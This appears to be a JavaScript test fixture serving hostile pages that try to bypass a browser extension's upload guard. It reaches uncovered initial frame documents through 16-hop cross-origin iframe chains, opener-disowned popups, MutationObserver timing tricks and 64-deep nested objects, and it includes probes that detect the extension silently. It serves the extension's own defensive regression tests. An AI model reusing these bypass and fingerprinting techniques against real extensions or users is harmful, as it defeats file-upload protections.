// Hostile pages for the sixteenth attack on the upload guard (issue 16):
// more ways for a page to reach a frame's first, empty document (a realm
// no content script runs in) before Silbato's page world wraps it, aimed at
// what changed last: the tab-shared `definitions` flag (typed-watch.js's
// group, found by content.js walking up parents and openers), `askedNow`
// and the empty comment, objects past MAX_OPEN, and ways to tell Silbato is
// there with no action of the person. Served by server.mjs at /attack16-…;
// every page uploads whatever file reaches it to /upload, so the tests
// judge the bytes the server received. Tests: attack16.test.mjs.

import { childObjectScript, grabbedPickerPage, objectGrabScript, probeScript } from './uploads.mjs';

const OBJECT = 'type="text/html" data="/px/never.gif" style="width:10px;height:10px"';

/** The ways tried, each leaving in `window.grabbed` a first document's window (window.how says where it was taken). */
const WAYS = [
  'control',
  // the group: a page world of the tab that is in another group than the define's
  'popupdisown', 'popupowndefine', 'crosshops', 'crosshops4',
  // an observer call whose last added node lies outside an object the parser still has open
  'strayrecord', 'strayrecordce', 'straynoy',
  // more than MAX_OPEN (64) HTML <object>s open, the one that matters gaining a child after it was asked
  'nest64y', 'nest63y',
];

const grabbing = objectGrabScript(`
    if (via === 'popupdisown' || via === 'popupowndefine') {
      window.name = 'p16';
      const w = window.open('/attack16-disown?define=' + (via === 'popupdisown' ? 'named' : 'own'), 'q16', 'width=200,height=200');
      note('popup ' + (w ? 'opened' : 'blocked'));
      return;
    }`);

const open = 'x<script>note("inside: frames " + window.length)</script>';
// The inline script inside the object also puts a node outside it (the
// head): the observer's next call sees that node last.
const stray = 'x<script>note("inside: frames " + window.length); document.head.appendChild(document.createElement("meta"))</script>';

/** The markup of the parser ways: the page's own HTML before the connect script. */
function parserMarkup(via) {
  const nest = (n) => '<object>'.repeat(n) + `<object id="o" ${OBJECT} onerror="note('object error')" onload="note('object load')">${open}y</object><script>lookupGrab(${JSON.stringify(via)})</script>` + '</object>'.repeat(n);
  return {
    // A frame under 16 cross-origin frames (localhost): content.js's walk
    // up (16 steps) never reaches the tab's group; the frame defines x-grab
    // in its registry with the TOP's define.
    crosshops: '<iframe id="hop" style="width:60px;height:60px"></iframe><script>document.getElementById("hop").src = "http://localhost:" + location.port + "/attack16-hop?n=15"</script>',
    // The control: 4 hops only (the walk reaches the tab's group).
    crosshops4: '<iframe id="hop" style="width:60px;height:60px"></iframe><script>document.getElementById("hop").src = "http://localhost:" + location.port + "/attack16-hop?n=3"</script>',
    // No custom element: the object seen open at its script (kept, not
    // asked); the script puts a <meta> into the head; the next observer
    // call sees the meta last, the object not holding it: asked again
    // (askAgain) while the parser still has it open, frameless, forgotten
    // (out of stillOpen, not askedNow); the parser adds "y" to it (Chromium
    // looks again), closes it, and the page's next script looks it up.
    strayrecord: `<object id="o" ${OBJECT} onerror="note('object error')" onload="note('object load')">${stray}y</object><script>lookupGrab('strayrecord')</script>`,
    // The same with x-grab defined (the gate open) and a custom element after it.
    strayrecordce: `<script>customElements.define('x-grab', grabClass('strayrecordce'))</script><object id="o" ${OBJECT} onerror="note('object error')" onload="note('object load')">${stray}y</object><x-grab></x-grab>`,
    // strayrecord without "y" (nothing makes Chromium look again).
    straynoy: `<object id="o" ${OBJECT} onerror="note('object error')" onload="note('object load')">${stray}</object><script>lookupGrab('straynoy')</script>`,
    // 64 <object>s with no address around the object (the 65th: no room,
    // asked at once while open), which gains "y" after its script.
    nest64y: nest(64),
    nest63y: nest(63),
  }[via] ?? '';
}

/**
 * The frame or popup of the child… ways: `p` says how it reaches the tab's
 * page (parent, top, or by name: window.open('', 'p16')); x-grab defined in
 * its own registry with that page's define (define=P) or its own; then an
 * <object> whose last node, as the frame's observer last runs, is an
 * inline script's text, closed, and x-grab: its constructor looks the
 * object up and hands the first document it made to the tab's page.
 */
function childPage(query) {
  const reach = { parent: 'parent', top: 'top', named: 'window.open("", "p16")' }[query.get('p')] ?? 'parent';
  const how = query.get('define') === 'own' ? 'customElements.define(' : 'P.CustomElementRegistry.prototype.define.call(customElements, ';
  return `<script>
    const P = ${reach};
    const note = (s) => P.notes.push('child: ' + s);
    note('opener ' + (window.opener === null ? 'null' : 'set'));${childObjectScript('P', "the child\\'s lookup at", how, OBJECT)}`;
}

/** A cross-origin hop (localhost): a frame of the next hop, or at n=0 the child (127.0.0.1, reaching the tab as `top`). */
function hopPage(query) {
  const n = Math.max(0, Math.min(20, Number(query.get('n')) || 0));
  const next = n > 0 ? `"http://localhost:" + location.port + "/attack16-hop?n=${n - 1}"` : '"http://127.0.0.1:" + location.port + "/attack16-child?p=top&define=P"';
  return `<iframe id="hop" style="width:50px;height:50px"></iframe><script>document.getElementById("hop").src = ${next}</script>`;
}

/** The popup's first page: its opener disowned, then the child (which finds the tab's page by name). */
function disownPage(query) {
  const define = query.get('define') === 'own' ? 'own' : 'P';
  return `<script>window.opener = null; location.replace('/attack16-child?p=named&define=${define}')</script>`;
}

/** On the person's click, a never-attached input opened with the showPicker of a first document reached `via`. */
function picker(query) {
  const via = WAYS.includes(query.get('via')) ? query.get('via') : 'control';
  return grabbedPickerPage({ grabbing, via, early: parserMarkup(via) });
}

/**
 * Detection pages: each runs a probe with no action of the person and
 * leaves its findings in window.result; the test compares it with the same
 * page in Chromium without the extension.
 */
const watchObject = `<script>window.records = []; window.events = []; new MutationObserver((rs) => { for (const r of rs) window.records.push((r.target.id || r.target.nodeName) + ':+' + [...r.addedNodes].map((n) => n.nodeName).join(',') + '-' + [...r.removedNodes].map((n) => n.nodeName).join(',')); }).observe(document, { childList: true, subtree: true })</script>`;
const settle = `
    await new Promise((r) => (document.readyState === 'complete' ? r() : window.addEventListener('load', r)));
    await new Promise((r) => setTimeout(r, 800));`;
const PROBES = {
  // An <object> showing an HTML page whose fallback holds an inline script
  // that puts a node elsewhere (a "no plugin" widget adding a style or a
  // meta): no custom element on the page.
  strayopen: `${settle}
    const o = document.getElementById('po');
    return { events: window.events, frames: window.length, framed: !!o.contentDocument };`,
  // The same nested 65 deep (the innermost with an address).
  nest65: `${settle}
    const o = document.getElementById('po');
    return { events: window.events, frames: window.length, framed: !!o.contentDocument };`,
};
const listen = `onerror="events.push('error')" onload="events.push('load')"`;
const PROBE_HTML = {
  strayopen: `${watchObject}<object id="po" data="/attack16-blank" type="text/html" ${listen}>fallback<script>document.head.appendChild(document.createElement('style'))</script></object><p>after</p>`,
  nest65: `${watchObject}${'<object>'.repeat(64)}<object id="po" data="/attack16-blank" type="text/html" ${listen}>fallback<script>window.inside = 1</script></object>${'</object>'.repeat(64)}<p>after</p>`,
};

function detect(query) {
  const name = query.get('probe');
  const probe = PROBES[name] ?? 'return null;';
  const html = PROBE_HTML[name] ?? '';
  return `<p id="status"></p>${html}${probeScript(probe)}`;
}

export const DETECTION_PROBES = Object.keys(PROBES);

export function attack16Page(path, query) {
  if (path === '/attack16-picker') return picker(query);
  if (path === '/attack16-detect') return detect(query);
  if (path === '/attack16-child') return childPage(query);
  if (path === '/attack16-hop') return hopPage(query);
  if (path === '/attack16-disown') return disownPage(query);
  if (path === '/attack16-blank') return '<p>a page</p>';
  return undefined;
}
